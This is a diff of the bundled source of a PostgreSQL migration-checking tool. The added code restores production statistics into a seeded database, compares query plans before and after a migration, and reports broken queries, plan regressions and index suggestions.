+async function applyStats(session, stats, serverMajor) {
+  const problems = [];
+  const targets = await readTargets(session, stats.tables);
+  const found = [];
+  for (const table of stats.tables) {
+    const target = targets.get(tableName3(table));
+    if (!target) problems.push({ table: tableName3(table), message: "the statistics file has this table, but the schema here does not" });
+    else if (target.pages === null && target.kind !== "p") problems.push({ table: tableName3(table), message: `the statistics file has a table of this name, but it is ${KIND_NAMES[target.kind] ?? "not a table"} here` });
+    else found.push([table, target]);
+  }
+  if (serverMajor < RESTORE_MIN_MAJOR) {
+    const tables2 = found.map(([table, target]) => {
+      const rows2 = Math.max(0, target.reltuples);
+      const note = table.reltuples >= 0 && Math.round(table.reltuples) !== rows2 ? `${count(table.reltuples)} rows in production` : void 0;
+      return { table: tableName3(table), rows: rows2, ...note ? { note } : {} };
+    });
+    const notes2 = [
+      `PostgreSQL ${serverMajor} cannot import statistics (that takes PostgreSQL ${RESTORE_MIN_MAJOR} or later): the tables were filled with generated rows at production counts, up to max-rows, and the plans use the statistics of those rows.`
+    ];
+    return { mode: "scaled-rows", tables: tables2, notes: notes2, problems };
+  }
+  const tables = [];
+  for (const [table, target] of found) {
+    const name = tableName3(table);
+    try {
+      tables.push(await restoreRelation(session, stats, table, target, problems));
+      await restoreColumns(session, stats, table, target, problems);
+    } catch (error) {
+      if (error instanceof ProviderError) throw error;
+      problems.push({ table: name, message: `restoring its statistics failed: ${describe2(error)}` });
+    }
+  }
+  const notes = [
+    "Row estimates use production statistics. A table generated with fewer rows than production keeps its smaller size in pages, so the page-reading part of its scan costs is lower than in production, which favours index scans."
+  ];
+  if (!stats.with_values) {
+    notes.push(
+      "The statistics file has no column values (exported with --no-values): the most common values and histograms are the generated data's, the null fractions, distinct counts and correlations production's."
+    );
+  }
+  return { mode: "restored", tables, notes, problems };
+}
+async function readTargets(session, tables) {
+  const rows2 = await session.query(TARGETS, [tables.map((t) => t.schema), tables.map((t) => t.name)]);
+  return new Map(rows2.map(({ schema, name, ...target }) => [tableName3({ schema, name }), { ...target, columns: target.columns ?? {} }]));
+}
+async function restoreRelation(session, stats, table, target, problems) {
+  const name = tableName3(table);
+  const seeded = Math.max(0, target.reltuples);
+  if (table.reltuples < 0 && table.kind === "partitioned") {
+    return { table: name, rows: seeded, note: "a partitioned table never analysed in production: the planner estimates its partitions from their own statistics" };
+  }
+  if (table.reltuples < 0) {
+    return { table: name, rows: seeded, note: "never vacuumed or analysed in production, so its row count is unknown: the generated rows stay" };
+  }
+  const relation = { reltuples: table.reltuples };
+  if (target.pages !== null) {
+    if (target.pages === 0) {
+      problems.push({ table: name, message: "it has no rows here, and the planner estimates an empty table as empty whatever its statistics say" });
+      return { table: name, rows: 0 };
+    }
+    relation.relpages = target.pages;
+    relation.relallvisible = table.relpages > 0 ? Math.min(target.pages, Math.round(table.relallvisible / table.relpages * target.pages)) : 0;
+    await session.query(`ALTER ${target.kind === "m" ? "MATERIALIZED VIEW" : "TABLE"} ${quoteIdent2(table.schema)}.${quoteIdent2(table.name)} SET (autovacuum_enabled = false)`);
+  }
+  const args = Object.entries(relation).map(([key, value], i) => `'${key}', $${i + 4}::${key === "reltuples" ? "real" : "integer"}`);
+  const [row] = await session.query(
+    `SELECT pg_catalog.pg_restore_relation_stats('version', $1::integer, 'schemaname', $2::text, 'relname', $3::text, ${args.join(", ")}) AS restored`,
+    [stats.source.server_version_num, table.schema, table.name, ...Object.values(relation)]
+  );
+  if (!row?.restored) {
+    problems.push({ table: name, message: `PostgreSQL did not accept its size (reltuples ${table.reltuples}, relpages ${relation.relpages ?? "-"})` });
+    return { table: name, rows: seeded };
+  }
+  return { table: name, rows: table.reltuples, ...relation.relpages !== void 0 ? { pages: relation.relpages } : {} };
+}
+async function restoreColumns(session, stats, table, target, problems) {
+  const name = tableName3(table);
+  const columns = [];
+  for (const column of table.columns) {
+    if (Object.hasOwn(target.columns, column.name)) columns.push(column);
+    else problems.push({ table: name, message: `column ${column.name} has statistics in the file, but the table here has no such column` });
+  }
+  if (columns.length === 0) return;
+  const params = [stats.source.server_version_num, table.schema, table.name];
+  const fields = Object.keys(ATTRIBUTE_FIELDS);
+  if (stats.with_values) {
+    await session.query(
+      `SELECT pg_catalog.pg_clear_attribute_stats($1::text, $2::text, c.name, c.inherited) FROM ${recordset(3)}`,
+      [table.schema, table.name, JSON.stringify(columns)]
+    );
+  }
+  const results = await session.query(restoreSql(fields), [...params, JSON.stringify(columns)]);
+  for (const result2 of results) {
+    if (result2.restored) continue;
+    const column = columns.find((c) => c.name === result2.name && c.inherited === result2.inherited);
+    const refused = [];
+    for (const group of FIELD_GROUPS) {
+      const given = group.filter((field) => column[field] !== void 0 && column[field] !== null);
+      if (given.length === 0) continue;
+      const [retry] = await session.query(restoreSql(given), [...params, JSON.stringify([column])]);
+      if (!retry?.restored) refused.push(...given);
+    }
+    problems.push({
+      table: name,
+      message: `PostgreSQL did not accept ${refused.length > 0 ? refused.join(", ") : "some statistics"} of column ${column.name}${column.inherited ? " (with its children)" : ""} for its type here, ${target.columns[column.name]}: those were not restored`
+    });
+  }
+}
+function recordset(param) {
+  const definitions = Object.entries(ATTRIBUTE_FIELDS).map(([field, type]) => `${field} ${type}`);
+  return `jsonb_to_recordset($${param}::jsonb) AS c(name text, inherited boolean, ${definitions.join(", ")})`;
+}
+function restoreSql(fields) {
+  const pairs = fields.map((field) => `'${field}', c.${field}`).join(", ");
+  return `SELECT c.name, c.inherited, pg_catalog.pg_restore_attribute_stats('version', $1::integer, 'schemaname', $2::text,
+    'relname', $3::text, 'attname', c.name, 'inherited', c.inherited, ${pairs}) AS restored FROM ${recordset(4)}`;
+}
+function quoteIdent2(name) {
+  return `"${name.replace(/"/g, '""')}"`;
+}
+function count(rows2) {
+  return Math.round(rows2).toLocaleString("en-US");
+}
+var RESTORE_MIN_MAJOR, TARGETS, KIND_NAMES, ATTRIBUTE_FIELDS, FIELD_GROUPS;
+var init_apply2 = __esm({
+  "src/stats/apply.ts"() {
+    "use strict";
+    init_provider();
+    init_file();
+    RESTORE_MIN_MAJOR = 18;
+    TARGETS = `
+  SELECT n.nspname::text AS schema, c.relname::text AS name, c.relkind::text AS kind, c.reltuples,
+         CASE WHEN c.relkind IN ('r', 'm') THEN (pg_relation_size(c.oid) / current_setting('block_size')::int8)::int4 END AS pages,
+         (SELECT json_object_agg(a.attname, format_type(a.atttypid, a.atttypmod)) FROM pg_catalog.pg_attribute a
+           WHERE a.attrelid = c.oid AND a.attnum > 0 AND NOT a.attisdropped) AS columns
+    FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
+   WHERE (n.nspname::text, c.relname::text) IN (SELECT * FROM unnest($1::text[], $2::text[]))`;
+    KIND_NAMES = {
+      i: "an index",
+      I: "a partitioned index",
+      S: "a sequence",
+      v: "a view",
+      c: "a composite type",
+      f: "a foreign table",
+      t: "a TOAST table"
+    };
+    ATTRIBUTE_FIELDS = {
+      null_frac: "real",
+      avg_width: "integer",
+      n_distinct: "real",
+      most_common_vals: "text",
+      most_common_freqs: "real[]",
+      histogram_bounds: "text",
+      correlation: "real",
+      most_common_elems: "text",
+      most_common_elem_freqs: "real[]",
+      elem_count_histogram: "real[]"
+    };
+    FIELD_GROUPS = [
+      ["null_frac", "avg_width", "n_distinct"],
+      ["most_common_vals", "most_common_freqs"],
+      ["histogram_bounds"],
+      ["correlation"],
+      ["most_common_elems", "most_common_elem_freqs"],
+      ["elem_count_histogram"]
+    ];
+  }
+});
+
+// src/stats/export.ts
+var init_export = __esm({
+  "src/stats/export.ts"() {
+    "use strict";
+    init_file();
+  }
+});
+
+// src/stats/command.ts
+import pg2 from "pg";
+var init_command = __esm({
+  "src/stats/command.ts"() {
+    "use strict";
+    init_provider();
+    init_redact();
+    init_export();
+    init_file();
+  }
+});
+
+// src/stats/index.ts
+var init_stats = __esm({
+  "src/stats/index.ts"() {
+    "use strict";
+    init_apply2();
+    init_command();
+    init_export();
+    init_file();
+  }
+});
+
+// src/check/explain.ts
+function droppedIndexes(statement) {
+  if (statement.type !== "DropStmt") return [];
+  const node = statement.node;
+  if (node.removeType !== "OBJECT_INDEX") return [];
+  return (node.objects ?? []).flatMap((o) => o.List?.items?.at(-1)?.String?.sval ?? []);
+}
+function sentence2(message) {
+  return /[.!?]$/.test(message) ? message : `${message}.`;
+}
+function label(query) {
+  return query.name ?? query.sql.replace(/\s+/g, " ").slice(0, 60);
+}
+function cost(value) {
+  return value.toFixed(2);
+}
+function indexHelp(suggestion) {
+  return `Measured on the seeded data, this index brings the estimated cost from ${cost(suggestion.beforeCost)} to ${cost(suggestion.afterCost)}:
+${suggestion.statement}`;
+}
+function indexEvidence(suggestion) {
+  return { ...suggestion };
+}
+async function tableRows(session) {
+  try {
+    const rows2 = await session.query(
+      `SELECT n.nspname || '.' || c.relname AS name, c.reltuples::float8 AS rows FROM pg_catalog.pg_class c
+         JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
+        WHERE c.relkind IN ('r', 'p', 'm') AND n.nspname NOT IN ('pg_catalog', 'information_schema') AND c.reltuples >= 0`
+    );
+    return new Map(rows2.map((r) => [r.name, Number(r.rows)]));
+  } catch (error) {
+    if (error instanceof ProviderError) throw error;
+    return /* @__PURE__ */ new Map();
+  }
+}
+var ExplainRun;
+var init_explain2 = __esm({
+  "src/check/explain.ts"() {
+    "use strict";
+    init_lint();
+    init_source();
+    init_provider();
+    init_explain();
+    init_plan2();
+    init_seed();
+    init_stats();
+    ExplainRun = class {
+      #options;
+      #planned;
+      #findings = [];
+      #notes = [];
+      #serverMajor = 0;
+      #seed = { rows: 0, ms: 0, tables: [] };
+      constructor(options) {
+        this.#options = options;
+        this.#planned = options.queryFiles.flatMap((file) => file.queries.map((query) => ({ query, file, changedFile: options.isChanged(file.path) })));
+      }
+      /** Runs the seed files, fills every empty table, and makes the planner see production's statistics when there are some. */
+      async seed(session, serverMajor) {
+        this.#serverMajor = serverMajor;
+        const { seed, stats } = this.#options;
+        const report = await seedDatabase(session, {
+          tables: { ...stats ? seedTargets(stats) : {}, ...this.#options.tables },
+          ...seed.maxRows !== void 0 ? { maxRows: seed.maxRows } : {},
+          ...seed.defaultRows !== void 0 ? { defaultRows: seed.defaultRows } : {},
+          ...seed.randomSeed !== void 0 ? { seed: seed.randomSeed } : {},
+          ...seed.skew !== void 0 ? { skew: seed.skew } : {},
+          userSeedFiles: seed.files,
+          progress: this.#options.progress
+        });
+        this.#recordSeed(report);
+        await this.#applyStats(session);
+      }
+      /** Plans every query on the schema before the change. */
+      async planBase(session) {
+        for (const [i, planned] of this.#planned.entries()) {
+          this.#options.progress.step(i, this.#planned.length, `${planned.file.path}: ${label(planned.query)}`);
+          planned.base = await this.#plan(session, planned.query);
+        }
+      }
+      /**
+       * Fills the tables the change created, refreshes the statistics of the tables it rewrote, plans every query
+       * again and reports what the change broke or made slower, then checks the plans of the change's own queries.
+       */
+      async planChanged(session, traced) {
+        const refill = await seedDatabase(session, {
+          tables: this.#options.tables,
+          ...this.#options.seed.maxRows !== void 0 ? { maxRows: this.#options.seed.maxRows } : {},
+          analyzeKept: false
+        });
+        this.#recordSeed(refill, true);
+        const rewritten = new Set(traced.flatMap((t) => t.traces.flatMap((trace) => trace?.rewrites ?? [])));
+        for (const relation of rewritten) {
+          await session.query(`ANALYZE ${relation}`).catch((error) => {
+            if (error instanceof ProviderError) throw error;
+          });
+        }
+        if (rewritten.size > 0) await this.#applyStats(session, false);
+        const statements = traced.flatMap((t) => t.file.statements.map((s) => ({ file: t.file.path, index: s.index, stmt: { [s.type]: s.node } })));
+        const regressed = [];
+        for (const [i, planned] of this.#planned.entries()) {
+          this.#options.progress.step(i, this.#planned.length, `${planned.file.path}: ${label(planned.query)}`);
+          planned.after = await this.#plan(session, planned.query);
+          const { base, after } = planned;
+          if (base?.status === "planned" && after.status === "failed") {
+            const cause = findBreakingStatement(after.message, statements);
+            this.#broken(planned, after, cause && traced.find((t) => t.file.path === cause.file), cause?.index);
+          } else if (base?.status === "planned" && after.status === "planned") {
+            const [regression] = comparePlans(base.explain, after.explain, this.#ruleOptions("plan-regression"));
+            if (regression) {
+              const finding = this.#regression(planned, regression, traced);
+              if (finding) regressed.push({ planned, regression, finding });
+            }
+          }
+        }
+        await this.#checkChangedQueries(session, regressed);
+      }
+      result() {
+        const summary = (plan) => {
+          if (!plan) return void 0;
+          if (plan.status === "planned") return { status: "planned", cost: plan.explain.Plan["Total Cost"] ?? 0, generic: plan.generic, analyzed: plan.analyzed };
+          return plan.status === "failed" ? { status: "failed", message: plan.message } : { status: "skipped", message: plan.reason };
+        };
+        const queries = this.#planned.map(({ query, file, changedFile, base, after }) => {
+          const at = new LineIndex(file.text).position(query.range.start);
+          return {
+            file: file.path,
+            line: at.line,
+            ...query.name ? { name: query.name } : {},
+            changed: changedFile,
+            ...base ? { before: summary(base) } : {},
+            ...after ? { after: summary(after) } : {}
+          };
+        });
+        return { findings: this.#findings, queries, seed: this.#seed, notes: this.#notes };
+      }
+      async #plan(session, query) {
+        return planQuery(session, query, { serverMajor: this.#serverMajor, analyze: this.#options.analyze });
+      }
+      #recordSeed(report, again = false) {
+        const tables = report.tables.filter((t) => t.status !== "kept" || !again).map((t) => ({ table: t.table, status: t.status, rows: t.rows, ...t.note ? { note: t.note } : {} }));
+        this.#seed = { rows: this.#seed.rows + report.rows, ms: Math.round(this.#seed.ms + report.ms), tables: again ? [...this.#seed.tables, ...tables] : tables };
+        for (const problem of report.problems) {
+          if (problem.kind === "seed-file") {
+            const file = this.#options.seed.files.find((f) => f.path === problem.file);
+            const offset = problem.offset ?? 0;
+            this.#add("base-migration-failed", file.path, new LineIndex(file.text), { start: offset, end: offset }, `The seed SQL failed: ${problem.message}.`, file.text);
+          } else {
+            this.#notes.push(problem.kind === "table" ? `Seeding ${problem.table}: ${problem.message}.` : `Seeding: ${problem.message}.`);
+          }
+        }
+      }
+      async #applyStats(session, note = true) {
+        if (!this.#options.stats) return;
+        const applied = await applyStats(session, this.#options.stats, this.#serverMajor);
+        this.#seed.statistics = { mode: applied.mode, tables: applied.tables.length };
+        if (!note) return;
+        this.#notes.push(...applied.notes, ...applied.problems.map((p) => `Statistics of ${p.table}: ${p.message}.`));
+      }
+      #ruleOptions(id) {
+        const rule = this.#options.rules.get(id);
+        return { ...rule?.meta.defaultOptions, ...this.#options.ruleSettings[id]?.options };
+      }
+      /** The finding's severity from the config, or undefined when the rule is off. */
+      #severity(id) {
+        const rule = this.#options.rules.get(id);
+        const severity = this.#options.ruleSettings[id]?.severity ?? rule?.meta.severity;
+        return !rule || severity === "off" ? void 0 : severity;
+      }
+      /** Adds a finding of the explain phase; the fingerprint is the query's or statement's text, not the costs the message quotes. */
+      #add(id, path3, lines, range2, message, identity, extra = {}) {
+        const severity = this.#severity(id);
+        if (!severity) return void 0;
+        const rule = this.#options.rules.get(id);
+        const finding = {
+          ...toFinding(id, severity, path3, lines, range2, { message, ...extra.help ? { help: extra.help } : {}, ...extra.evidence ? { evidence: extra.evidence } : {} }, void 0, rule),
+          source: "explain",
+          fingerprint: fingerprint(id, path3, identity, "")
+        };
+        if (extra.statement !== void 0) finding.statement = extra.statement;
+        this.#findings.push(finding);
+        return finding;
+      }
+      /** Where a query is, for messages: `db/queries/orders.sql:3 (GetOrder)`. */
+      #where(planned) {
+        const line = new LineIndex(planned.file.text).position(planned.query.range.start).line;
+        const name = planned.query.name;
+        return { text: `${planned.file.path}:${line}${name ? ` (${name})` : ""}`, evidence: { file: planned.file.path, line, ...name ? { name } : {} } };
+      }
+      #broken(planned, after, causeFile, causeIndex) {
+        const where = this.#where(planned);
+        const evidence2 = { query: where.evidence, error: { message: after.message, ...after.code ? { code: after.code } : {} } };
+        if (causeFile && causeIndex !== void 0) {
+          const statement = causeFile.file.statements[causeIndex];
+          this.#add(
+            "query-broken-by-change",
+            causeFile.file.path,
+            causeFile.file.lines,
+            statement.range,
+            `This statement breaks the query at ${where.text}, which works before the change: PostgreSQL now rejects it with "${after.message.replace(/\.$/, "")}".`,
+            `${statement.text}\0${planned.query.sql}`,
+            { evidence: evidence2, statement: causeIndex }
+          );
+          return;
+        }
+        this.#add(
+          "query-broken-by-change",
+          planned.file.path,
+          new LineIndex(planned.file.text),
+          this.#errorRange(planned, after.position),
+          `This query works on the schema before the change and fails after it: ${sentence2(after.message)}`,
+          planned.query.sql,
+          { evidence: evidence2 }
+        );
+      }
+      /**
+       * A regression is reported where the reviewer of the migration sees it: on the statement that dropped an index
+       * the plan before the change used, else the first one that rewrote or locked the relation whose scan got worse;
+       * on the query when no statement of the change touched it.
+       */
+      #regression(planned, regression, traced) {
+        const where = this.#where(planned);
+        const evidence2 = { query: where.evidence, ...regression.evidence };
+        const base = planned.base?.status === "planned" ? planned.base.explain : void 0;
+        const usedIndexes = new Set(base ? walkPlan(base.Plan).flatMap((v) => v.node["Index Name"] ?? []) : []);
+        const relation = regression.evidence.relation;
+        const statements = traced.flatMap((t) => t.file.statements.map((statement) => ({ t, statement, trace: t.traces[statement.index] })));
+        const cause = statements.find(({ statement }) => droppedIndexes(statement).some((name) => usedIndexes.has(name))) ?? statements.find(({ trace }) => relation !== void 0 && trace && !trace.error && trace.rewrites.includes(relation)) ?? statements.find(({ trace }) => relation !== void 0 && trace && !trace.error && trace.locks.some((l) => l.relation === relation));
+        if (cause) {
+          const { t, statement } = cause;
+          return this.#add("plan-regression", t.file.path, t.file.lines, statement.range, `The query at ${where.text} gets a worse plan after this statement: ${regression.message}`, `${statement.text}\0${planned.query.sql}`, {
+            evidence: evidence2,
+            statement: statement.index
+          });
+        }
+        return this.#add("plan-regression", planned.file.path, new LineIndex(planned.file.text), planned.query.range, `This query gets a worse plan after the change: ${regression.message}`, planned.query.sql, { evidence: evidence2 });
+      }
+      /** The plan rules, failures, skipped statements and index advice for the queries of the change's query files. */
+      async #checkChangedQueries(session, regressed) {
+        const rules2 = [...this.#options.rules.values()];
+        const rows2 = await tableRows(session);
+        const advisor = new IndexAdvisor(session);
+        const advised = /* @__PURE__ */ new Map();
+        const remedied = /* @__PURE__ */ new Map();
+        for (const [i, planned] of this.#planned.entries()) {
+          const { after, query } = planned;
+          const key = String(i);
+          const regression = regressed.find((r) => r.planned === planned);
+          if (regression && after?.status === "planned") {
+            advisor.consider(key, after.explain, () => this.#replan(session, query));
+            advised.set(key, planned);
+            remedied.set(planned, [{ finding: regression.finding, keepHelp: true }]);
+          }
+          if (!planned.changedFile || !after) continue;
+          const where = this.#where(planned);
+          const lines = new LineIndex(planned.file.text);
+          if (after.status === "skipped") {
+            this.#notes.push(`${where.text}: not planned: ${after.reason}`);
+          } else if (after.status === "failed") {
+            if (planned.base?.status === "planned") continue;
+            this.#add("query-plan-failed", planned.file.path, lines, this.#errorRange(planned, after.position), `PostgreSQL cannot plan this query on the schema after the change: ${sentence2(after.message)}`, query.sql, {
+              evidence: { query: where.evidence, error: { message: after.message, ...after.code ? { code: after.code } : {} } }
+            });
+          } else {
+            for (const found of checkPlan(after.explain, rules2, { ruleSettings: this.#options.ruleSettings, tableRows: ({ schema, name }) => rows2.get(`${schema ?? "public"}.${name}`) })) {
+              const finding = this.#add(found.ruleId, planned.file.path, lines, query.range, found.message, query.sql, { help: found.help, evidence: { query: where.evidence, ...found.evidence } });
+              if (finding) remedied.set(planned, [...remedied.get(planned) ?? [], { finding, keepHelp: false }]);
+            }
+            if (!advised.has(key)) {
+              advisor.consider(key, after.explain, () => this.#replan(session, query));
+              advised.set(key, planned);
+            }
+          }
+        }
+        if (advised.size === 0) return;
+        for (const [key, suggestions] of await advisor.run()) {
+          const planned = advised.get(key);
+          const [best] = suggestions;
+          const remedy = best && remedied.get(planned)?.find(({ finding, keepHelp }) => keepHelp || String(finding.evidence?.plan?.node).endsWith(` ${best.table}`));
+          if (remedy && best) {
+            const { finding, keepHelp } = remedy;
+            finding.help = keepHelp ? `${indexHelp(best)}
+${finding.help ?? ""}`.trim() : indexHelp(best);
+            finding.evidence = { ...finding.evidence, index: indexEvidence(best) };
+            continue;
+          }
+          for (const suggestion of suggestions) {
+            const where = this.#where(planned);
+            this.#add(
+              "index-suggestion",
+              planned.file.path,
+              new LineIndex(planned.file.text),
+              planned.query.range,
+              `An index on ${suggestion.table} (${suggestion.columns.join(", ")}) cuts this query's estimated cost from ${cost(suggestion.beforeCost)} to ${cost(suggestion.afterCost)} on the seeded data.`,
+              `${planned.query.sql}\0${suggestion.statement}`,
+              { help: `Create it in a migration of its own, outside a transaction block:
+${suggestion.statement}`, evidence: { query: where.evidence, index: indexEvidence(suggestion) } }
+            );
+          }
+        }
+      }
+      /** The advisor replans inside its own transaction: estimates only, so that no candidate runs the query. */
+      async #replan(session, query) {
+        const plan = await planQuery(session, query, { serverMajor: this.#serverMajor });
+        return plan.status === "planned" ? plan.explain : void 0;
+      }
+      /**
+       * The file range of a failure at `position` in query.sql. Offsets agree with the file up to the first place
+       * where sqlc's parameters were rewritten; a position past it points at the query's start.
+       */
+      #errorRange({ query, file }, position) {
+        if (query.problem) return query.problem.range;
+        if (position === void 0) return query.range;
+        const original = Buffer.from(file.text, "utf8").subarray(query.range.start, query.range.end);
+        const sent = Buffer.from(query.sql, "utf8");
+        let same = 0;
+        while (same < original.length && same < sent.length && original[same] === sent[same]) same++;
+        const at = position < same || sent.equals(original) ? query.range.start + position : query.range.start;
+        return { start: at, end: at };
       }
     };
   }
@@ -7462,13 +11602,14 @@ async function runDynamic(sets, options) {
   const traced = [];
   const findings = [];
   let database;
-  const report = (ruleId, path2, text, range2, message, statement) => {
+  let explained;
+  const report = (ruleId, path3, text2, range2, message, statement) => {
     const rule = options.rules.get(ruleId);
     if (!rule) return;
-    findings.push({ ...toFinding(ruleId, rule.meta.severity, path2, new LineIndex(text), range2, { message }, void 0, rule), ...statement !== void 0 ? { statement } : {} });
+    findings.push({ ...toFinding(ruleId, rule.meta.severity, path3, new LineIndex(text2), range2, { message }, void 0, rule), ...statement !== void 0 ? { statement } : {} });
   };
-  const failureRange = (failure, fallback) => {
-    if (failure.offset !== void 0) return { start: failure.offset, end: failure.offset };
+  const failureRange = (failure2, fallback) => {
+    if (failure2.offset !== void 0) return { start: failure2.offset, end: failure2.offset };
     return fallback ?? { start: 0, end: 0 };
   };
   const problems = [];
@@ -7483,12 +11624,22 @@ async function runDynamic(sets, options) {
       break;
     }
   }
-  return { traced, findings, problems, database: database ?? { provider: "none", serverVersion: "", reason: "no database could be used" } };
-  function reportFailure(file, analyzed2, failure) {
-    const statement = analyzed2.statements[failure.statement];
+  return {
+    traced,
+    findings,
+    problems,
+    database: database ?? { provider: "none", serverVersion: "", reason: "no database could be used" },
+    ...explained ? { explain: explained.result() } : {}
+  };
+  function reportFailure(file, analyzed2, failure2) {
+    const statement = analyzed2.statements[failure2.statement];
     const timeoutSeconds = (options.database.statementTimeoutMs ?? DEFAULT_STATEMENT_TIMEOUT_MS) / 1e3;
-    const message = failure.code === QUERY_CANCELED ? `This statement ran longer than the ${timeoutSeconds} s statement timeout and was cancelled; raise \`statement-timeout\` in .sql-preflight.yml if that is expected at the seeded size.` : `PostgreSQL rejected this statement: ${failure.message}.`;
-    report("migration-failed", file.path, file.text, failureRange({ offset: failure.position }, statement?.range), message, failure.statement);
+    if (failure2.refused) {
+      report("unsafe-statement-refused", file.path, file.text, failureRange({ offset: failure2.position }, statement?.range), failure2.message, failure2.statement);
+      return;
+    }
+    const message = failure2.code === QUERY_CANCELED ? `This statement ran longer than the ${timeoutSeconds} s statement timeout and was cancelled; raise \`statement-timeout\` in .sql-preflight.yml if that is expected at the seeded size.` : `PostgreSQL rejected this statement: ${failure2.message}.`;
+    report("migration-failed", file.path, file.text, failureRange({ offset: failure2.position }, statement?.range), message, failure2.statement);
   }
   async function traceOrTimeout(tracer, file, analyzed2) {
     try {
@@ -7505,25 +11656,31 @@ async function runDynamic(sets, options) {
     database ??= { provider: provider.kind, serverVersion: provider.serverVersion.full, reason };
     if (traced.length === 0) options.progress.note(`Database: ${reason}.`);
     try {
-      let session = await provider.open();
+      const session = await provider.open();
       await options.progress.phase("replay", async () => {
-        for (const failure of await applySetup(session, options.setup)) {
-          const file = options.setup.find((s) => s.path === failure.file);
-          report("base-migration-failed", file.path, file.text, failureRange(failure), `The setup SQL failed: ${failure.message}.`);
+        for (const failure2 of await applySetup(session, options.setup)) {
+          const file = options.setup.find((s) => s.path === failure2.file);
+          if (failure2.refused) report("unsafe-statement-refused", file.path, file.text, failureRange(failure2), failure2.message);
+          else report("base-migration-failed", file.path, file.text, failureRange(failure2), `The setup SQL failed: ${failure2.message}.`);
         }
         for (const [i, migration] of set.existing.entries()) {
           options.progress.step(i, set.existing.length, migration.path);
-          const failure = await applyMigration(session, migration);
-          if (failure) {
-            report("base-migration-failed", migration.path, migration.text, failureRange(failure), `Replaying this existing migration failed: ${failure.message}.`, failure.statement);
+          const failure2 = await applyMigration(session, migration);
+          if (failure2?.refused) {
+            report("unsafe-statement-refused", migration.path, migration.text, failureRange(failure2), failure2.message, failure2.statement);
+          } else if (failure2) {
+            report("base-migration-failed", migration.path, migration.text, failureRange(failure2), `Replaying this existing migration failed: ${failure2.message}.`, failure2.statement);
           }
         }
         options.progress.step(set.existing.length, set.existing.length, "");
-        if (provider.saveTemplate) {
-          await provider.saveTemplate();
-          session = await provider.open();
-        }
       });
+      const explain = set.explain && new ExplainRun(set.explain);
+      if (explain) {
+        explained = explain;
+        await options.progress.phase("seed", () => explain.seed(session, provider.serverVersion.major));
+        await options.progress.phase("explain before", () => explain.planBase(session));
+      }
+      const tracedBefore = traced.length;
       await options.progress.phase("trace", async () => {
         const tracer = await createTracer(provider, session);
         const calibration = new Calibration(session);
@@ -7533,6 +11690,7 @@ async function runDynamic(sets, options) {
           await tracer.close();
         }
       });
+      if (explain) await options.progress.phase("explain after", () => explain.planChanged(session, traced.slice(tracedBefore)));
       await session.close();
     } finally {
       await provider.dispose();
@@ -7544,7 +11702,7 @@ async function runDynamic(sets, options) {
       if (!analyzed2) continue;
       const before = file.down ? await schemaFingerprint(session) : void 0;
       const result2 = await traceOrTimeout(tracer, file, analyzed2);
-      const estimates = await estimate(session, analyzed2, result2.statements, options.tables, calibration);
+      const estimates = await estimate2(session, analyzed2, result2.statements, options.tables, calibration);
       traced.push({ file: analyzed2, traces: result2.statements, estimates });
       if (result2.failure) {
         reportFailure(file, analyzed2, result2.failure);
@@ -7561,7 +11719,7 @@ async function runDynamic(sets, options) {
     options.progress.step(set.changed.length, set.changed.length, "");
   }
 }
-async function estimate(session, file, traces, tables, calibration) {
+async function estimate2(session, file, traces, tables, calibration) {
   const estimates = /* @__PURE__ */ new Map();
   if (Object.keys(tables).length === 0) return estimates;
   for (const [index, trace] of traces.entries()) {
@@ -7584,6 +11742,7 @@ var init_dynamic = __esm({
     init_replay();
     init_trace();
     init_estimate();
+    init_explain2();
   }
 });
 
@@ -7610,16 +11769,16 @@ async function changedSince(cwd, base) {
   const modified = /* @__PURE__ */ new Set();
   for (let i = 0; i + 1 < fields.length; i += 2) {
     const status = fields[i];
-    const path2 = fields[i + 1];
-    if (status === "A" || status === "M" || status === "T") changed.add(path2);
-    if (status === "M" || status === "T") modified.add(path2);
+    const path3 = fields[i + 1];
+    if (status === "A" || status === "M" || status === "T") changed.add(path3);
+    if (status === "M" || status === "T") modified.add(path3);
   }
-  for (const path2 of (await git(root, ["ls-files", "--others", "--exclude-standard", "-z"])).split("\0").filter(Boolean)) changed.add(path2);
+  for (const path3 of (await git(root, ["ls-files", "--others", "--exclude-standard", "-z"])).split("\0").filter(Boolean)) changed.add(path3);
   return { changed, modified, root };
 }
-async function fileAt(root, ref, path2) {
+async function fileAt(root, ref, path3) {
   try {
-    const { stdout } = await run("git", ["show", `${ref}:${path2}`], { cwd: root, maxBuffer: 256 * 1024 * 1024 });
+    const { stdout } = await run("git", ["show", `${ref}:${path3}`], { cwd: root, maxBuffer: 256 * 1024 * 1024 });
     return stdout;
   } catch {
     return void 0;
@@ -7664,14 +11823,14 @@ function mergeTrace(findings, traced, rules2) {
       const explained = new Set(
         kept.filter((f) => f.file === file.path && f.statement === index).map((f) => rules2.get(f.ruleId)?.meta.verifiedBy)
       );
-      const estimate2 = estimates.get(index);
+      const estimate3 = estimates.get(index);
       if (trace.rewrites.length > 0 && !explained.has("rewrite")) {
         const rule = rules2.get("table-rewrite");
         if (rule) {
           kept.push(
             toFinding(rule.meta.id, rule.meta.severity, file.path, file.lines, statement.range, {
-              message: `${describeRewrite(trace)}.${impactSentence(trace, estimate2)}`,
-              evidence: evidence(trace, index, estimate2)
+              message: `${describeRewrite(trace)}.${impactSentence(trace, estimate3)}`,
+              evidence: evidence(trace, index, estimate3)
             }, statement, rule)
           );
         }
@@ -7684,8 +11843,8 @@ function mergeTrace(findings, traced, rules2) {
           const mode = strongestLock(trace, blockingScans[0].relation);
           kept.push(
             toFinding(rule.meta.id, rule.meta.severity, file.path, file.lines, statement.range, {
-              message: `Validates ${what} by scanning every row under ${lockName(mode)}, which ${describeBlocking(mode)} until the scan ends.${impactSentence(trace, estimate2)}`,
-              evidence: evidence(trace, index, estimate2)
+              message: `Validates ${what} by scanning every row under ${lockName(mode)}, which ${describeBlocking(mode)} until the scan ends.${impactSentence(trace, estimate3)}`,
+              evidence: evidence(trace, index, estimate3)
             }, statement, rule)
           );
         }
@@ -7736,11 +11895,11 @@ function impactSentence(trace, estimates) {
   const verb = { rewrite: "Rewrites", scan: "Scans", "index build": "Indexes" }[longest.operation];
   return ` ${verb} ${longest.relation} (est. ${formatCount2(longest.rows)} rows) under ${lockName(mode)}: ${describeBlocking(mode)} for roughly ${formatDuration(longest.seconds)}.`;
 }
-function formatCount2(rows) {
